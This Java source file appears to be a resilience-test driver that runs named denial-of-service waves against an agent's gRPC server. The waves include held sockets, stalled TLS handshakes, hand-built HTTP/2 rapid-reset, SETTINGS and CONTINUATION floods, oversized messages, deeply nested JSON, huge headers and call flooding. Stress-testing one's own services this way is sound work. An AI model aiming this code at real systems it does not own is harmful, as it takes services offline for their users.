import io.agentweave.a2a.v1.A2AServiceGrpc;
import io.grpc.StatusRuntimeException;
import io.netty.handler.ssl.JdkSslContext;
import java.io.BufferedOutputStream;
import java.io.BufferedReader;
import java.io.IOException;
import java.io.InputStreamReader;
import java.io.OutputStream;
import java.net.Socket;
import java.nio.ByteBuffer;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.Arrays;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.concurrent.TimeUnit;
import java.util.concurrent.atomic.AtomicBoolean;
import javax.net.ssl.SSLSocket;

/**
 * Attacks an agent, in a process of its own. Arguments: HOST:PORT and the attacker's folder. Says
 * what it knows, a line each, and an empty line; then begins what a line names, and ends it at an
 * empty one, which it answers.
 */
final class Attacker {
  interface Wave {
    void roll() throws Exception;
  }

  private final Peer peer;
  private final A2AServiceGrpc.A2AServiceBlockingStub stub;

  private Attacker(Peer peer) throws IOException {
    this.peer = peer;
    this.stub = peer.stub();
  }

  public static void main(String[] args) throws Exception {
    Map<String, Wave> waves = new Attacker(Peer.of(args[0], args[1])).waves();
    waves.keySet().forEach(System.out::println);
    System.out.println();
    BufferedReader lines = new BufferedReader(new InputStreamReader(System.in));
    for (String name = lines.readLine(); name != null; name = lines.readLine()) {
      Wave wave = waves.get(name);
      AtomicBoolean over = new AtomicBoolean();
      Thread rolling = Thread.ofPlatform().daemon().start(() -> roll(wave, over));
      lines.readLine();
      over.set(true);
      rolling.join(TimeUnit.SECONDS.toMillis(30));
      System.out.println();
    }
  }

  private static void roll(Wave wave, AtomicBoolean over) {
    while (!over.get()) {
      try {
        wave.roll();
      } catch (Exception e) {
        // Cut off: the next wave.
      }
    }
  }

  private Map<String, Wave> waves() {
    Map<String, Wave> waves = new LinkedHashMap<>();
    waves.put("connections without a handshake", () -> sockets(new byte[0]));
    waves.put("handshakes that stop in the middle", () -> sockets(new byte[] {22, 3, 1, 2}));
    waves.put(
        "rapid reset",
        () ->
            frames(
                (raw, n) -> {
                  raw.open(n);
                  raw.frame(3, 0, n, new byte[] {0, 0, 0, 8});
                }));
    waves.put("settings", () -> frames((raw, n) -> raw.frame(4, 0, 0, new byte[0])));
    waves.put(
        "continuations", () -> frames((raw, n) -> raw.frame(n == 1 ? 1 : 9, 0, 1, new byte[1000])));
    waves.put("streams that never end", () -> frames((raw, n) -> raw.open(n)));
    waves.put(
        "messages that are too large",
        () -> fails(() -> stub.sendMessage(Peer.text("x".repeat(8 << 20)))));
    waves.put(
        "compressed messages that are too large",
        () ->
            fails(() -> stub.withCompression("gzip").sendMessage(Peer.text("x".repeat(32 << 20)))));
    waves.put("deep JSON", () -> fails(() -> stub.sendMessage(Peer.json("[".repeat(100_000)))));
    waves.put(
        "1 MiB of metadata",
        () ->
            fails(
                () ->
                    stub.withInterceptors(Peer.header("x-noise", "x".repeat(1 << 20)))
                        .sendMessage(Peer.text("x"))));
    waves.put("calls as fast as one peer can", () -> fails(() -> stub.sendMessage(Peer.text("x"))));
    return waves;
  }

  private static void fails(Runnable call) {
    try {
      call.run();
    } catch (StatusRuntimeException e) {
      // That is what it is for.
    }
  }

  private void sockets(byte[] first) throws Exception {
    List<Socket> held = new ArrayList<>();
    try {
      for (int i = 0; i < 300; i++) {
        Socket socket = new Socket(peer.host(), peer.port());
        socket.getOutputStream().write(first);
        held.add(socket);
      }
      Thread.sleep(300);
    } finally {
      for (Socket socket : held) {
        socket.close();
      }
    }
  }

  private interface Piece {
    void send(Raw raw, int n) throws IOException;
  }

  private void frames(Piece piece) throws Exception {
    try (Raw raw = new Raw(peer)) {
      for (int n = 1; n < 200_000; n += 2) {
        piece.send(raw, n);
      }
      raw.out.flush();
    }
  }

  /** HTTP/2 by hand. */
  private static final class Raw implements AutoCloseable {
    private final SSLSocket socket;
    final OutputStream out;

    Raw(Peer peer) throws Exception {
      var context = ((JdkSslContext) peer.tls()).context();
      Socket plain = new Socket(peer.host(), peer.port());
      socket =
          (SSLSocket)
              context.getSocketFactory().createSocket(plain, "localhost", peer.port(), true);
      var parameters = socket.getSSLParameters();
      parameters.setProtocols(new String[] {"TLSv1.3"});
      parameters.setApplicationProtocols(new String[] {"h2"});
      socket.setSSLParameters(parameters);
      socket.setSoTimeout(1);
      socket.startHandshake();
      out = new BufferedOutputStream(socket.getOutputStream(), 16 * 1024);
      out.write("PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n".getBytes(StandardCharsets.US_ASCII));
      frame(4, 0, 0, new byte[0]);
      Thread.ofVirtual().start(this::drain);
    }

    private void drain() {
      byte[] buffer = new byte[16 * 1024];
      while (!socket.isClosed()) {
        try {
          if (socket.getInputStream().read(buffer) < 0) {
            socket.close();
          }
        } catch (java.net.SocketTimeoutException e) {
          Thread.yield();
        } catch (IOException e) {
          return;
        }
      }
    }

    void frame(int type, int flags, int stream, byte[] payload) throws IOException {
      out.write(
          ByteBuffer.allocate(9)
              .putShort((short) (payload.length >> 8))
              .put((byte) payload.length)
              .put((byte) type)
              .put((byte) flags)
              .putInt(stream)
              .array());
      out.write(payload);
    }

    void open(int stream) throws IOException {
      byte[] path = "/lf.a2a.v1.A2AService/SendMessage".getBytes(StandardCharsets.US_ASCII);
      ByteBuffer block = ByteBuffer.allocate(200).put((byte) 0x83).put((byte) 0x87).put((byte) 4);
      block.put((byte) path.length).put(path);
      for (String[] header :
          new String[][] {
            {"content-type", "application/grpc"}, {"te", "trailers"}, {"a2a-version", "1.0"}
          }) {
        block.put((byte) 0);
        for (String text : header) {
          block.put((byte) text.length()).put(text.getBytes(StandardCharsets.US_ASCII));
        }
      }
      frame(1, 4, stream, Arrays.copyOf(block.array(), block.position()));
    }

    @Override
    public void close() throws IOException {
      socket.close();
    }
  }
}
